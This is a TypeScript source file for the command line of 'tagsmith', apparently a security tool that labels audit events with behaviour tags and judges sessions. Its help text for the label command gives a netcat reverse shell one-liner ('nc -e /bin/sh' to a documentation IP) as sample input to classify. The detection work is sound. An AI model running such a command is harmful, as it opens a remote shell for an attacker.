import { Command, InvalidArgumentError, Option } from "commander";
import { TagsmithError } from "../event/tagsmith-error.ts";
import { type Tier, tiers } from "../label/onnx-encoder.ts";
import type { ConnectorRegistry } from "./connector-registry.ts";
import { evalCommand } from "./eval-command.ts";
import { exitCodeOf, exitCodes } from "./exit-code.ts";
import { addKeystoreCommands } from "./keystore-commands.ts";
import { labelCommand } from "./label-command.ts";
import { addMappingCommands } from "./mapping-commands.ts";
import { normalizeCommand } from "./normalize-command.ts";
import { addQueueCommands } from "./queue-commands.ts";
import { demoCommand, runCommand } from "./run-command.ts";
import { scoreCommand } from "./score-command.ts";
import { addServerCommands } from "./server-commands.ts";
import { addSigmaCommands } from "./sigma-commands.ts";
import { tagsCommand } from "./tags-command.ts";
import { oneLine, printable, type Terminal } from "./terminal.ts";

/** Runs the command line; resolves with the exit code (docs/errors.md). */
export async function runProgram(
  argv: readonly string[],
  registry: ConnectorRegistry,
  terminal: Terminal,
): Promise<number> {
  let code: number = exitCodes.ok;
  const run = async (work: () => Promise<number> | number): Promise<void> => {
    code = await work();
  };
  const program = new Command("tagsmith")
    .description("Behaviour tags and session verdicts for audit events.")
    .version("0.1.0")
    .exitOverride()
    .configureOutput({
      writeOut: (text) => terminal.out.write(text),
      // What was given with an option nobody knows may be a secret.
      writeErr: (text) => terminal.err.write(safeLines(text.replace(/(unknown option '[^'=\n]*)=.*'/s, "$1'"))),
    })
    .addHelpText(
      "after",
      "\nExit codes: 0 done, 1 unexpected, 2 usage or configuration, 3 input, 4 output, 5 model, 6 state, 7 server, 8 queue, 130 stopped.\n",
    );
  addPipelineCommands(program, run, registry, terminal);
  addServerCommands(program, run, registry, terminal);
  addTextCommands(program, run, registry, terminal);
  addMappingCommands(program, run, registry, terminal);
  addSigmaCommands(program, run, registry, terminal);
  addQueueCommands(program, run, terminal);
  addKeystoreCommands(program, run, terminal);
  try {
    await program.parseAsync([...argv], { from: "user" });
    return code;
  } catch (error) {
    return reportError(error, terminal);
  }
}

type Run = (work: () => Promise<number> | number) => Promise<void>;

function addPipelineCommands(program: Command, run: Run, registry: ConnectorRegistry, terminal: Terminal): void {
  program
    .command("demo")
    .description("label the bundled sample audit logs and show what was found")
    .option("--output <folder>", "where labels, verdicts and alerts go", "out")
    .option("--json", "print the summary as JSON", false)
    .option("--quiet", "print nothing", false)
    .addHelpText("after", "\nExample:\n  tagsmith demo --output out")
    .action((options: { output: string; json: boolean; quiet: boolean }) =>
      run(() => demoCommand(options.output, options, registry, terminal)),
    );
  program
    .command("run")
    .description("read, label, judge and write, as a configuration file says")
    .requiredOption("--config <file>", "configuration, e.g. tagsmith.yaml (docs/configuration.md)")
    .option("--json", "print the summary as JSON", false)
    .option("--quiet", "no progress, no summary", false)
    .addHelpText(
      "after",
      "\nExample:\n  tagsmith run --config tagsmith.yaml\n\nStart it again after a stop or a crash: it goes on where it was.",
    )
    .action((options: { config: string; json: boolean; quiet: boolean }) =>
      run(() => runCommand(options.config, options, registry, terminal)),
    );
  program
    .command("normalize")
    .description("show what each document of a file becomes: event, skip or reject")
    .requiredOption("--input <file>", "NDJSON, JSON, text lines, .gz; - for standard input")
    .option("--output <file>", "write results as NDJSON")
    .option("--mappings <folder>", "mappings instead of the bundled ones")
    .option("--extra <path...>", "folders or files whose mappings override or add")
    .option("--config <file>", "mappings as a configuration says")
    .option("--json", "print results as NDJSON", false)
    .option("--explain", "also every mapping tried, and where text and session come from", false)
    .addHelpText("after", "\nExample:\n  tagsmith normalize --input samples/data/audit.log")
    .action((options: Parameters<typeof normalizeCommand>[0]) =>
      run(() => normalizeCommand(options, registry, terminal)),
    );
}

function addTextCommands(program: Command, run: Run, registry: ConnectorRegistry, terminal: Terminal): void {
  program
    .command("label")
    .description("rank behaviour tags for texts, or for the rows of a file")
    .argument("[text...]", "command lines or Kubernetes audit lines")
    .option("--input <file>", "rows with cmdline, command, k8slog, raw, event or message")
    .option("--output <file>", "file for the prediction rows; default: standard output")
    .option("--model <folder>", "artifact instead of the bundled one")
    .option("--top-k <n>", "labels a text", wholeNumber, 5)
    .addOption(new Option("--tier <tier>", "how much of the model is asked").choices(tiers).default("balanced"))
    .option("--json", "print prediction rows", false)
    .addHelpText(
      "after",
      "\nExamples:\n  tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n  tagsmith label --input rows.ndjson --output predictions.jsonl",
    )
    .action(
      (
        texts: string[],
        options: { input?: string; output?: string; model?: string; topK: number; tier: Tier; json: boolean },
      ) =>
        run(() => {
          if ((texts.length === 0) === (options.input === undefined)) {
            throw new TagsmithError("option_invalid", "label takes either texts or --input FILE.", "exit");
          }
          return labelCommand(texts, options, registry, terminal);
        }),
    );
  program
    .command("score")
    .description("judge sessions from prediction rows")
    .requiredOption("--input <file>", "rows with session_id, in event order")
    .requiredOption("--predictions <file>", "prediction rows of the same events")
    .requiredOption("--output <file>", "one verdict a session; - for standard output")
    .option("--model <folder>", "artifact instead of the bundled one")
    .option("--json", "print the counts as JSON", false)
    .addHelpText(
      "after",
      "\nExample:\n  tagsmith score --input sessions.jsonl --predictions predictions.jsonl --output verdicts.jsonl",
    )
    .action((options: { input: string; predictions: string; output: string; model?: string; json: boolean }) =>
      run(() => scoreCommand(options, registry, terminal)),
    );
  program
    .command("eval")
    .description("compare prediction rows with tagged rows")
    .requiredOption("--gold <file>", "rows with behavior_tags")
    .requiredOption("--predictions <file>", "prediction rows")
    .option("--json", "print the metrics as JSON", false)
    .addHelpText("after", "\nExample:\n  tagsmith eval --gold gold.jsonl --predictions predictions.jsonl")
    .action((options: { gold: string; predictions: string; json: boolean }) =>
      run(() => evalCommand(options, registry, terminal)),
    );
  program
    .command("tags")
    .description("list the behaviour tags and what they mean")
    .argument("[pattern]", "part of an id, a group or a definition")
    .option("--json", "print JSON", false)
    .addHelpText("after", "\nExample:\n  tagsmith tags reverse_shell")
    .action((pattern: string | undefined, options: { json: boolean }) =>
      run(() => tagsCommand(pattern, options.json, terminal)),
    );
}

function wholeNumber(text: string): number {
  const value = Number(text);
  if (!Number.isInteger(value) || value < 1 || value > 361)
    throw new InvalidArgumentError("expected a whole number from 1 to 361");
  return value;
}

function reportError(error: unknown, terminal: Terminal): number {
  if (
    error instanceof Error &&
    "code" in error &&
    typeof error.code === "string" &&
    error.code.startsWith("commander.")
  ) {
    return "exitCode" in error && error.exitCode === 0 ? exitCodes.ok : exitCodes.usage;
  }
  if (error instanceof TagsmithError) terminal.err.write(`tagsmith: ${error.code}: ${oneLine(error.message)}\n`);
  else
    terminal.err.write(
      safeLines(`tagsmith: unexpected: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`),
    );
  return exitCodeOf(error);
}

/** Keeps the lines of a text and makes each safe to print. */
function safeLines(text: string): string {
  return text
    .split("\n")
    .map((line) => printable(line, 1_000))
    .join("\n");
}
